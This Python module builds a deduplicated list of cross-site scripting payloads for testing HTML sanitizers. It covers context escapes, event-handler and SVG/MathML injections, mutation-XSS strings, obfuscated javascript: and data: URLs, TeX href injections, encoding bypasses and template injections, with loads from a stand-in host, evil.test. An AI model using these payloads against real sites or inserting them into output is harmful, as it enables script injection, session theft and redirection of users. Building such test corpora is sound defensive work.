"""Texts that would run a script, load something or lead astray where a page took them for markup.

Put together from parts: what ends the place a text stands in, what then runs, and how it is spelled. Whatever runs
calls `hit(1)`; whatever is loaded is on evil.test.
"""

from __future__ import annotations

import base64
from collections.abc import Iterator
from itertools import product

CALL = "hit(1)"
EVIL = "https://evil.test/x"
# What ends the place where a text stands: an attribute, a text-only element, a comment, foreign content, a template.
ENDS = (
    *("", '">', "'>", ">", "</title>", "</textarea>", "</script>", "-->", "--!>", "</style>", "]]>", "</noscript>"),
    *("</select>", "</math>", "</svg>", "</template>", "</xmp>", "<svg><style>", "<math><mtext>", "</a>", "`>"),
)
# What runs by itself once it is an element.
RUNS = (
    f"<script>{CALL}</script>",
    f"<ScRiPt >{CALL}</sCrIpT>",
    f"<script\n>{CALL}</script\n>",
    f"<script/x>{CALL}</script>",
    f"<img src=x onerror={CALL}>",
    f"<IMG SRC=x ONERROR={CALL}>",
    f"<img/src=x/onerror={CALL}>",
    f'<img\tsrc="x"\nonerror="{CALL}">',
    f"<image src=x onerror={CALL}>",
    f"<input type=image src=x onerror={CALL}>",
    f"<svg onload={CALL}>",
    f"<svg/onload={CALL}>",
    f"<svg><script>{CALL}</script></svg>",
    f"<svg><script href=data:,{CALL}></script></svg>",
    f"<svg><animate onbegin={CALL} attributeName=x dur=1s>",
    f"<svg><set onbegin={CALL} attributeName=x dur=1s>",
    f"<svg><image href=x onerror={CALL}>",
    f"<body onload={CALL}>",
    f"<body onpageshow={CALL}>",
    f"<video src=x onerror={CALL}>",
    f"<video><source onerror={CALL}>",
    f"<audio src=x onerror={CALL}>",
    f"<details open ontoggle={CALL}>",
    f"<input autofocus onfocus={CALL}>",
    f"<select autofocus onfocus={CALL}>",
    f"<textarea autofocus onfocus={CALL}>",
    f"<iframe onload={CALL}>",
    f'<iframe srcdoc="<script>parent.{CALL}</script>">',
    f"<iframe src=javascript:parent.{CALL}>",
    f"<object data=x onerror={CALL}>",
    f"<object data=javascript:{CALL}>",
    f"<embed src=javascript:{CALL}>",
    f"<style onload={CALL}></style>",
    f"<link rel=stylesheet href={EVIL} onerror={CALL}>",
    f"<script src={EVIL} onerror={CALL}></script>",
    f"<div style=animation-name:x onanimationstart={CALL}>",
)
# What waits for a hand, or loads and leads away without a script.
WAITS = (
    f"<a href=javascript:{CALL}>x</a>",
    f"<a href=' javascript:{CALL}'>x</a>",
    f"<a onclick={CALL}>x</a>",
    f"<b onmouseover={CALL}>x</b>",
    f"<form action=javascript:{CALL}><button>x</button></form>",
    f"<form><button formaction=javascript:{CALL}>x</button></form>",
    f"<svg><a href=javascript:{CALL}><text>x</text></a></svg>",
    f"<svg><a><animate attributeName=href values=javascript:{CALL} /><text>x</text></a></svg>",
    f"<math href=javascript:{CALL}>x</math>",
    f"<math><mtext href=javascript:{CALL}>x</mtext></math>",
    f"<math><maction actiontype=statusline xlink:href=javascript:{CALL}>x</maction></math>",
    f"<img src={EVIL}>",
    f"<img srcset='{EVIL} 1x'>",
    f"<iframe src={EVIL}></iframe>",
    f"<link rel=stylesheet href={EVIL}>",
    f"<link rel=prefetch href={EVIL}>",
    f"<style>@import '{EVIL}';</style>",
    f"<style>*{{background:url({EVIL})}}</style>",
    f"<p style=background:url({EVIL})>x</p>",
    f"<table background={EVIL}><tr><td>x</table>",
    f"<video poster={EVIL}></video>",
    f"<svg><use href={EVIL}#a></use></svg>",
    f"<svg><filter><feImage href={EVIL} /></filter></svg>",
    f"<meta http-equiv=refresh content='0;url=javascript:{CALL}'>",
    f"<meta http-equiv=refresh content='0;url={EVIL}'>",
    "<base href=https://evil.test/>",
    "<base target=_blank>",
    f"<dialog open><form method=dialog action={EVIL}></form></dialog>",
)
# What becomes an element only after a page was parsed, written and parsed again.
MUTATES = (
    f"<math><mtext><table><mglyph><style><!--</style><img title='--&gt;&lt;img src=x onerror={CALL}&gt;'>",
    f"<svg></p><style><a id='</style><img src=x onerror={CALL}>'>",
    f"<noscript><p title='</noscript><img src=x onerror={CALL}>'>",
    f"<form><math><mtext></form><form><mglyph><style></math><img src=x onerror={CALL}>",
    f"<svg><foreignObject><iframe srcdoc='&lt;script&gt;parent.{CALL}&lt;/script&gt;'></foreignObject>",
    f"<template><img src=x onerror={CALL}></template>",
    f"<xmp><p title='</xmp><img src=x onerror={CALL}>'>",
    f"<listing>&lt;img onerror={CALL} src=x&gt;</listing>",
    f"<!--><img src=x onerror={CALL}>-->",
    f"<!--!><img src=x onerror={CALL}>",
    f"<![CDATA[><img src=x onerror={CALL}>]]>",
    f"<?x ><img src=x onerror={CALL}>?>",
    f"<a title='<!--'><img src=x onerror={CALL}><a title='-->'>",
    f"<svg><title><![CDATA[</title><img src=x onerror={CALL}>]]>",
    f"<select><template><img src=x onerror={CALL}></template></select>",
)
# Addresses, for the fields that are links.
_ENCODED = base64.b64encode(f"<script>{CALL}</script>".encode()).decode()
ADDRESSES = (
    *(
        f"javascript:{CALL}",
        f"JaVaScRiPt:{CALL}",
        f" javascript:{CALL}",
        f"java\tscript:{CALL}",
        f"java\nscript:{CALL}",
    ),
    *(f"\x01javascript:{CALL}", f"\u00a0javascript:{CALL}", f"\ufeffjavascript:{CALL}", f"javascript\t:{CALL}"),
    *(f"javascript&colon;{CALL}", f"javascript&#58;{CALL}", f"&#106;avascript:{CALL}", f"java&Tab;script:{CALL}"),
    *(f"javascript://%0a{CALL}", f"javascript://x.test/%0A{CALL}", f"javascript:void'https://x.test/'||{CALL}"),
    *(f"ｊavascript:{CALL}", f"javascript：{CALL}", f"%6aavascript:{CALL}", f"vbscript:{CALL}", f"livescript:{CALL}"),
    *(f"data:text/html,<script>{CALL}</script>", f"data:text/html;base64,{_ENCODED}", f"DATA:text/html,{CALL}"),
    *(f"data:image/svg+xml,<svg onload={CALL} xmlns='http://www.w3.org/2000/svg'/>", f"data:,{CALL}"),
    *("//evil.test/x", "///evil.test/x", "\\\\evil.test\\x", "/\\evil.test/x", "https:evil.test/x", "https:/evil.test"),
    *(
        f"blob:{EVIL}",
        f"filesystem:{EVIL}",
        f"view-source:{EVIL}",
        "file:///etc/passwd",
        "about:blank",
        "ftp://evil.test/",
    ),
    *("https://x.test@evil.test/", "https://x.test:p@evil.test/", "https://x.test\\@evil.test/", "mailto:a@evil.test"),
    *(f'https://x.test/"onmouseover={CALL}//', f"https://x.test/'onclick={CALL}//", f"https://x.test/`onload={CALL}"),
    *(f'https://x.test/"><img src=x onerror={CALL}>', f"https://x.test/' autofocus onfocus={CALL} x='"),
    *(
        f"https://x.test/\n><script>{CALL}</script>",
        f"https://x.test/#'-{CALL}-'",
        f"https://x.test/?a=</script><img src=x onerror={CALL}>",
    ),
    *(f'https://x" onclick={CALL}.test/', f"https://[::1]'onclick={CALL}/", f"https://x.test:80'onclick={CALL}/"),
)
TEX = (
    *(r"\href{%s}{x}", r"$\href{%s}{x}$", r"\url{%s}", r"$\url{%s}$", r"\(\href{%s}{x}\)", r"\[\text{\href{%s}{x}}\]"),
    *(
        r"$\includegraphics{%s}$",
        r"$\htmlData{a=%s}{x}$",
        r"$\require{html}\href{%s}{x}$",
        r"\begin{equation}\href{%s}{x}\end{equation}",
    ),
)
TEX_AROUND = (
    *(
        r"$%s$",
        r"$\text{%s}$",
        r"$\mathrm{%s}$",
        r"$\operatorname{%s}$",
        r"$x^{%s}$",
        r"$\frac{%s}{2}$",
        r"$\sqrt[%s]{x}$",
    ),
    *(
        r"\(%s\)",
        r"\[%s\]",
        r"\emph{%s}",
        r"\begin{array}{c}%s\end{array}",
        r"$\mbox{%s}$",
        r"$\left%s\right)$",
        r"$\tag{%s}x$",
    ),
    *(r"$\color{%s}{x}$", r"$\style{%s}{x}$", r"$\class{%s}{x}$", r"$\unicode{%s}$", r"$\overset{%s}{=}$", r"$x<y%s$"),
)
_CORE = ("<script>hit(1)</script>", "<img src=x onerror=hit(1)>")


def payloads() -> list[str]:
    """Return every payload once, always in the same order."""
    return list(dict.fromkeys(_all()))


def _all() -> Iterator[str]:
    yield from (f"{end}{run}" for end, run in product(ENDS, RUNS[::3]))
    yield from RUNS
    yield from WAITS
    yield from MUTATES
    yield from ADDRESSES
    yield from _attributes()
    yield from (form % address for form, address in product(TEX, ADDRESSES[:: len(ADDRESSES) // 6]))
    yield from (form % core for form, core in product(TEX_AROUND, (*_CORE, f"</math><svg onload={CALL}>")))
    yield from _spelled()
    yield from _in_scripts()


def _attributes() -> Iterator[str]:
    """Out of a quoted attribute, and into a handler of the same element."""
    handlers = ("onmouseover", "onfocus", "onclick", "onload", "onerror", "onanimationstart", "onpointerenter")
    for quote, space, handler in product(('"', "'", ""), (" ", "/", "\n", "\x0c"), handlers):
        yield f"x{quote}{space}{handler}={CALL} autofocus tabindex=0 style=animation-name:x y={quote}"


def _spelled() -> Iterator[str]:
    """Spelled so that something that decodes, normalises or drops characters would make an element of it."""
    for core in _CORE:
        opening, closing = core[0], core[1:]
        for sign in (
            "&lt;",
            "&#60;",
            "&#x3c;",
            "&#x3C",
            "&LT",
            "&amp;lt;",
            "&amp;amp;lt;",
            "%3C",
            "%253C",
            "\\x3c",
            "\\u003c",
        ):
            yield sign + closing.replace(">", "&gt;" if "&" in sign else ">")
        for sign in (
            "＜",
            "﹤",
            "‹",
            "〈",
            "≺",
            "<\u0338",
            "\u226e",
            "+ADw-",
            "\xc0\xbc",
            "\u2028<",
            "\ufeff<",
            "<\u200b",
            "<\x00",
            "<\u2066",
        ):
            yield sign + closing
        yield opening + closing.replace("scr", "scr\u200b").replace("im", "im\u200b")
        yield opening + closing.replace("scr", "scr\x00").replace("im", "im\x00")
        yield opening + closing.replace("r", "\u00ad" + "r", 1)
        yield core.replace("script", "scscriptript").replace("onerror", "ononerrorerror")
        yield core.replace("<", "<<").replace(">", ">>")
        yield core.upper().replace("HIT", "hit")
        yield f"{core}\u202e{core}\u202c"
        yield core[:-1]


def _in_scripts() -> Iterator[str]:
    """Out of JSON in a script, of a template, of a style."""
    yield from (
        f'"}}]}}{end}{run}' for end, run in product(("</script>", "</script ", "</SCRIPT\t>", "<!--<script>"), RUNS[:4])
    )
    yield from (
        f"'-{CALL}-'",
        f'"-{CALL}-"',
        f"');{CALL};//",
        f'"}};{CALL};//',
        f"\u2028{CALL}\u2029",
        f"\\');{CALL}//",
    )
    for template in (
        "{{%s}}",
        "{{constructor.constructor('%s')()}}",
        "${%s}",
        "#{%s}",
        "<%%= %s %%>",
        "{%% if %s %%}",
        "[[%s]]",
    ):
        yield template % CALL
    yield from (
        f"</style><style>@import url({EVIL})</style>",
        f"*/{{}}*{{background:url({EVIL})}}/*",
        f"expression({CALL})",
    )
